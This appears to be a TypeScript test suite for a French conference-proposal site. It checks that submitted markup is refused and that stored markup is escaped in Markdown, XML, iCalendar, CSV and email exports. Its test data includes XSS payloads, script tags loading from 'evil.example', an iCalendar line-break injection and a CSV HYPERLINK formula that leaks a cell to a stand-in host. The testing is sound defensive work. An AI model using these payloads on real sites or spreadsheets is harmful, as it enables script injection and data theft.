/**
 * Markup smuggled into text. A proposer cannot send anything a browser would read as a tag (submit,
 * correction through the status link, GraphQL); and what an editor types, or what was stored before
 * that rule, comes out inert in every export: rendered by a real Markdown renderer with raw HTML on,
 * parsed by a real XML and iCalendar parser, opened as a spreadsheet cell, read in an HTML mail.
 */
import MarkdownIt from 'markdown-it';
import ical from 'node-ical';
import { parseFragment } from 'parse5';
import { create as parseXml } from 'xmlbuilder2';
import { validateXML } from 'xmllint-wasm';
import { parse as parseYaml } from 'yaml';
import { adminToken, api, createEdition, createProposal, createSpeaker } from '../harness/factories';

const PROPOSAL = 'api::proposal.proposal';
const SESSION = 'api::session.session';
const AFTER_PROGRAM = '2023-12-05T12:00:00.000Z';
const SCRIPT = '<script>alert(1)</script>';
const IMG = '<img src=x onerror=alert(1)>';

let ip = 0;
let edition: any;
let token: string;

const form = (overrides: Record<string, unknown> = {}) => ({
  edition: edition.slug,
  speakerName: 'Agent Exemple',
  email: `agent${++ip}@example.org`,
  administrationName: 'DINUM',
  jobTitle: 'Développeuse',
  title: 'Un logiciel libre dans mon ministère',
  abstract: 'Retour d’expérience sur un déploiement réussi, en quelques lignes.',
  requestedDuration: 15,
  ...overrides,
});
const submit = (data: unknown, lang?: string) => {
  const req = api()
    .post('/api/proposals')
    .set('X-Forwarded-For', `10.44.${Math.floor(++ip / 250)}.${(ip % 250) + 1}`);
  if (lang) req.set('Accept-Language', lang);
  return req.send({ data });
};
const errorsOf = (res: any) => (res.body.error?.details?.errors ?? []).map((e: any) => `${e.path.join('.')}:${e.code}`).sort();
const cm = (method: 'put' | 'post', path: string) =>
  api()[method](`/content-manager/collection-types/${SESSION}${path}`).set('Authorization', `Bearer ${token}`);

// A site built with markdown-it and raw HTML on: the case the review names.
const markdown = new MarkdownIt({ html: true, linkify: true });
/**
 * Splits a page into its YAML front matter and its body. The front matter must read the same in
 * YAML 1.2 and in YAML 1.1 (Jekyll's reader), free text included; only unquoted dates become
 * timestamps in 1.1, as they always have.
 */
function page(content: string): { front: Record<string, any>; body: string } {
  const match = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(content);
  expect(match).not.toBeNull();
  const front = parseYaml(match![1]);
  const old = parseYaml(match![1], { version: '1.1' });
  for (const key of ['title', 'description', 'room', 'speakers']) expect(old[key]).toEqual(front[key]);
  return { front, body: match![2] };
}
/**
 * Parses HTML as a browser does (parse5 follows the WHATWG algorithm) and checks what it would build:
 * only the elements Markdown itself makes, no event handler, no link but http(s) or mailto.
 */
const MARKDOWN_ELEMENTS = new Set(['p', 'h1', 'h2', 'h3', 'strong', 'em', 'ul', 'ol', 'li', 'a', 'br', 'hr', 'code', 'pre', 'blockquote', 'meta']);
function expectInertHtml(html: string) {
  const seen: string[] = [];
  const walk = (node: any) => {
    if (node.tagName) {
      seen.push(node.tagName);
      expect(MARKDOWN_ELEMENTS).toContain(node.tagName);
      for (const attr of node.attrs) {
        expect(attr.name).not.toMatch(/^on/i);
        if (attr.name === 'href' || attr.name === 'src') expect(attr.value).toMatch(/^(https?:|mailto:)/);
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parseFragment(html));
  return seen;
}

// Every markup-like sequence a proposer might slip in, including those the old rule let through.
const MARKUP: Array<[string, string]> = [
  ['svg with a slash, no space', '<svg/onload=alert(1)>'],
  ['img with a slash, no space', '<img/src=x onerror=alert(1)>'],
  ['a closing script tag', '</script>'],
  ['a comment', '<!-- caché -->'],
  ['a doctype', '<!DOCTYPE html>'],
  ['a processing instruction', '<?xml version="1.0"?>'],
  ['an unclosed anchor', '<a href=//evil.example'],
  ['upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['an address in angle brackets', 'écrire à <jean@x.fr>'],
  ['an autolink', '<https://evil.example>'],
];

beforeAll(async () => {
  token = await adminToken();
  edition = await createEdition({ slug: 'balisage-2023', title: 'Journées #BlueHats 2023', contactEmail: 'contact@example.org' });
});

beforeEach(async () => {
  await strapi.service('api::notification.notification').drain();
  await strapi.db.query('api::notification.notification').deleteMany({});
  await strapi.db.query(PROPOSAL).deleteMany({});
  mailbox.clear();
  appResponseCache.invalidate();
  testClock.set('2023-11-10T10:00:00.000Z');
});

describe('a proposer cannot send markup', () => {
  it.each(MARKUP)('refuses %s in every text field at once, one error per field, and writes nothing', async (_label, markup) => {
    const res = await submit(
      form({
        speakerName: `Camille ${markup}`,
        administrationName: `DINUM ${markup}`,
        jobTitle: `Cheffe ${markup}`,
        title: `Titre ${markup}`,
        abstract: `Un résumé assez long pour passer la longueur minimale. ${markup}`,
      })
    );
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ data: null, error: { status: 400, name: 'ValidationError', details: { code: 'VALIDATION_FAILED' } } });
    expect(errorsOf(res)).toEqual([
      'abstract:HTML_NOT_ALLOWED',
      'administrationName:HTML_NOT_ALLOWED',
      'jobTitle:HTML_NOT_ALLOWED',
      'speakerName:HTML_NOT_ALLOWED',
      'title:HTML_NOT_ALLOWED',
    ]);
    expect(await strapi.db.query(PROPOSAL).count({})).toBe(0);
  });

  it('refuses an address in angle brackets in the e-mail field as markup', async () => {
    const res = await submit(form({ email: '<jean@x.fr>' }));
    expect(res.status).toBe(400);
    expect(errorsOf(res)).toEqual(['email:HTML_NOT_ALLOWED']);
  });

  it('says why, in French by default and in English on request, without echoing the markup', async () => {
    const fr = await submit(form({ title: 'Titre <svg/onload=alert(1)>' }));
    expect(fr.body.error.message).toMatch(/^Le titre de l'intervention ne doit pas contenir de HTML/);
    expect(fr.body.error.details.errors[0]).toMatchObject({
      path: ['title'],
      code: 'HTML_NOT_ALLOWED',
      message: expect.stringMatching(/^Le titre de l'intervention ne doit pas contenir de HTML/),
      messageEn: expect.stringMatching(/^The title of the talk must not contain HTML/),
    });
    const en = await submit(form({ title: 'Titre <svg/onload=alert(1)>' }), 'en');
    expect(en.status).toBe(400);
    expect(en.body.error.message).toMatch(/^The title of the talk must not contain HTML/);
    expect(JSON.stringify(en.body)).not.toContain('<svg');
  });

  it.each([
    ['a comparison with spaces', 'Quand le coût < au budget et 3 > 2, on adopte le libre.'],
    ['a digit after <', 'Des équipes de x<3 personnes et des délais <5 jours.'],
    ['full-width angle brackets, which no browser reads as a tag', 'La balise ＜script＞ expliquée aux agents publics.'],
    ['escaped text', 'Écrire &lt;script&gt; dans un résumé ne crée aucune balise.'],
  ])('keeps %s, which is not markup, unchanged', async (_label, abstract) => {
    const res = await submit(form({ abstract }));
    expect(res.status).toBe(201);
    const row = await strapi.db.query(PROPOSAL).findOne({ where: { reference: res.body.data.reference } });
    expect(row.abstract).toBe(abstract);
  });

  it('refuses markup in a correction through the status link, and keeps what was sent', async () => {
    const created = await submit(form());
    expect(created.status).toBe(201);
    const link = `/api/proposals/mine/${created.body.data.statusToken}`;
    for (const [, markup] of MARKUP) {
      const res = await api()
        .put(link)
        .send({ data: { title: `Titre ${markup}`, jobTitle: `Cheffe ${markup}` } });
      expect(res.status).toBe(400);
      expect(errorsOf(res)).toEqual(['jobTitle:HTML_NOT_ALLOWED', 'title:HTML_NOT_ALLOWED']);
    }
    const row = await strapi.db.query(PROPOSAL).findOne({ where: { reference: created.body.data.reference } });
    expect(row).toMatchObject({ title: 'Un logiciel libre dans mon ministère', jobTitle: 'Développeuse' });
  });

  it('refuses markup through GraphQL submitProposal, which shares the service', async () => {
    const res = await api()
      .post('/graphql')
      .set('X-Forwarded-For', `10.45.0.${++ip % 250}`)
      .send({
        query: 'mutation Submit($data: ProposalSubmissionInput!) { submitProposal(data: $data) { reference } }',
        variables: { data: form({ title: 'Titre <img/src=x onerror=alert(1)>' }) },
      });
    expect(res.body.data?.submitProposal ?? null).toBeNull();
    expect(res.body.errors[0].extensions.error.details).toMatchObject({
      code: 'VALIDATION_FAILED',
      errors: [expect.objectContaining({ path: ['title'], code: 'HTML_NOT_ALLOWED' })],
    });
    expect(await strapi.db.query(PROPOSAL).count({})).toBe(0);
  });
});

describe('what editors type comes out inert', () => {
  let hostile: any;
  let legacy: any;

  beforeAll(async () => {
    testClock.set(AFTER_PROGRAM);
    const speaker = await createSpeaker({ name: `Camille ${IMG}` });
    // An editor writes markup through the admin (content-manager API), then publishes.
    const draft = await strapi.documents(SESSION).create({
      data: {
        title: 'Provisoire',
        slug: 'balisage-editeur',
        durationMinutes: 20,
        format: 'talk',
        edition: edition.documentId,
        startsAt: '2023-12-06T13:00:00.000Z',
        speakers: [speaker.documentId],
      } as any,
      locale: 'fr',
    });
    const saved = await cm('put', `/${draft.documentId}?locale=fr`).send({
      title: `${SCRIPT} {{ site.github }} [x](javascript:alert(1))`,
      abstract: `Première ligne ${IMG}\n\n<svg/onload=alert(1)>\n{: onmouseover="alert(1)"}\n{% include secret.html %}`,
      room: `Salle ${IMG}`,
    });
    expect(saved.status).toBe(200);
    const published = await cm('post', `/${draft.documentId}/actions/publish?locale=fr`).send({});
    expect(published.status).toBeLessThan(300);
    hostile = draft;
    // A proposal stored before the rule existed: its text reaches the draft session unchanged.
    const old = await createProposal({
      edition: edition.documentId,
      state: 'confirmed',
      preferredDay: '2023-12-07',
      title: 'Ancienne <svg/onload=alert(1)>',
      abstract: 'Texte <img/src=x onerror=alert(1)> envoyé avant la règle.',
      speakerName: 'Dominique <svg/onload=alert(2)>',
    });
    const documentId = await strapi.service('api::session.from-proposals').draftSessionFromProposal(old.id);
    await strapi.documents(SESSION).publish({ documentId, locale: 'fr' });
    legacy = { documentId };
  });

  beforeEach(() => testClock.set(AFTER_PROGRAM));

  it('in the Markdown page of a session: valid front matter, no tag, link or template tag once rendered', async () => {
    for (const { documentId } of [hostile, legacy]) {
      const res = await api().get(`/api/sessions/${documentId}/page.md`);
      expect(res.status).toBe(200);
      const { front, body } = page(res.text);
      expect(typeof front.title).toBe('string');
      // Liquid and Nunjucks print front matter unescaped by default: as a template would.
      expectInertHtml(
        `<h1>${front.title}</h1><p>${front.description}</p><p>${front.room ?? ''}</p>${front.speakers.map((s: any) => `<li>${s.name}</li>`).join('')}`
      );
      expectInertHtml(markdown.render(body));
      expect(body).not.toMatch(/\{\{|\{%|\{:/);
    }
    const page1 = page((await api().get(`/api/sessions/${hostile.documentId}/page.md`)).text);
    expect(page1.front.title).toBe('&lt;script>alert(1)&lt;/script> {{ site.github }} [x](javascript:alert(1))');
    const html = markdown.render(page1.body);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('in every page of session-pages', async () => {
    const res = await api().get(`/api/editions/${edition.slug}/session-pages`);
    expect(res.status).toBe(200);
    expect(res.body.data).toHaveLength(2);
    for (const p of res.body.data) {
      const { front, body } = page(p.content);
      expectInertHtml(`<h1>${front.title}</h1>`);
      expectInertHtml(markdown.render(body));
    }
  });

  it('in the announcement, even with markup in the edition and a script address as the registration link', async () => {
    const other = await createEdition({
      slug: 'annonce-balisage',
      title: `Journées ${SCRIPT}`,
      registrationUrl: 'javascript:alert(1)',
      venue: { name: `Palais ${IMG}`, city: 'Paris {{ site.data }}', hostShow: 'Salon [x](javascript:alert(1))' },
    });
    const res = await api().get(`/api/editions/${other.slug}/announcement.md`);
    expect(res.status).toBe(200);
    const { front, body } = page(res.text);
    expectInertHtml(`<h1>${front.title}</h1><meta content="${front.description}">`);
    const html = markdown.render(body);
    expectInertHtml(html);
    // The script address is not linked: the registration paragraph is left out, as with no address.
    expect(body).not.toContain('Pensez à vous inscrire');
    expect(body).not.toMatch(/\{\{|\{%/);
    expect(html).toContain('Journées &lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('in schedule.xml: the markup is text of its element, for a real XML parser', async () => {
    const res = await api().get(`/api/editions/${edition.slug}/schedule.xml`);
    expect(res.status).toBe(200);
    expect(res.text).not.toMatch(/<(script|img|svg)\b/i);
    const lint = await validateXML({ xml: [{ fileName: 'schedule.xml', contents: res.text }], normalization: 'format' });
    expect(lint.errors).toEqual([]);
    const dom = parseXml(res.text).node as any;
    for (const tag of ['script', 'img', 'svg']) expect(dom.getElementsByTagName(tag).length).toBe(0);
    const titles = Array.from({ length: dom.getElementsByTagName('title').length }, (_, i) => dom.getElementsByTagName('title').item(i).textContent);
    expect(titles).toContain(`${SCRIPT} {{ site.github }} [x](javascript:alert(1))`);
    const abstracts = Array.from({ length: dom.getElementsByTagName('abstract').length }, (_, i) => dom.getElementsByTagName('abstract').item(i).textContent);
    expect(abstracts.some((a: string) => a.includes(IMG))).toBe(true);
  });

  it('in calendar.ics: text values, one event per session, no property slipped in by a line break', async () => {
    const titled = await strapi.documents(SESSION).create({
      data: {
        title: `Titre\r\nATTACH:https://evil.example/x\r\nX-INJ:${SCRIPT}`,
        slug: 'balisage-ligne',
        durationMinutes: 20,
        format: 'talk',
        edition: edition.documentId,
        // After the other session of that afternoon: the program's rules refuse an overlap.
        startsAt: '2023-12-07T14:00:00.000Z',
      } as any,
      locale: 'fr',
      status: 'published',
    });
    const whole = await api().get(`/api/editions/${edition.slug}/calendar.ics`);
    const one = await api().get(`/api/sessions/${titled.documentId}/calendar.ics`);
    for (const res of [whole, one]) {
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/calendar/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.text).not.toMatch(/^(ATTACH|X-INJ)/m);
      const parsed = Object.values(ical.sync.parseICS(res.text)) as any[];
      for (const item of parsed) expect(Object.keys(item)).not.toContain('attach');
    }
    const events = (Object.values(ical.sync.parseICS(whole.text)) as any[]).filter((e) => e.type === 'VEVENT');
    expect(events).toHaveLength(3);
    expect(events.map((e) => e.summary)).toContain(`${SCRIPT} {{ site.github }} [x](javascript:alert(1))`);
    expect(one.text).toMatch(/^X-WR-CALNAME:Titre\\nATTACH:https:\/\/evil\.example\/x\\nX-INJ:/m);
    await strapi.documents(SESSION).delete({ documentId: titled.documentId });
  });

  it('in the proposals CSV: a note starting with a line break and a formula stays text', async () => {
    await createProposal({ edition: edition.documentId, title: 'Une proposition', reviewerNotes: '\n=HYPERLINK("https://evil.example?"&A1;"x")' });
    const res = await api().get(`/bluehats/editions/${edition.documentId}/proposals.csv`).set('Authorization', `Bearer ${token}`);
    expect(res.status).toBe(200);
    expect(res.text).toContain(`"'\n=HYPERLINK(""https://evil.example?""&A1;""x"")"`);
  });

  it('in the HTML part of a mail, which the mail provider fills with the text when none is given', async () => {
    const hostileEdition = await createEdition({ slug: 'courriel-balisage', title: `Journées ${IMG}`, contactEmail: 'contact@example.org' });
    testClock.set('2023-11-10T10:00:00.000Z');
    const res = await submit(form({ edition: hostileEdition.slug, email: 'balisage@example.org', title: 'Coût < budget & délais' }));
    expect(res.status).toBe(201);
    const [mail] = await mailbox.waitFor((m) => m.to === 'balisage@example.org');
    expect(mail.text).toContain(`Journées ${IMG}`);
    expect(mail.html).not.toBe('');
    expectInertHtml(mail.html);
    expect(mail.html).toContain('Journées &lt;img src=x onerror=alert(1)&gt;');
    expect(mail.html).toContain('Coût &lt; budget &amp; délais');
    expect(mail.subject).not.toMatch(/[\r\n]/);
  });
});
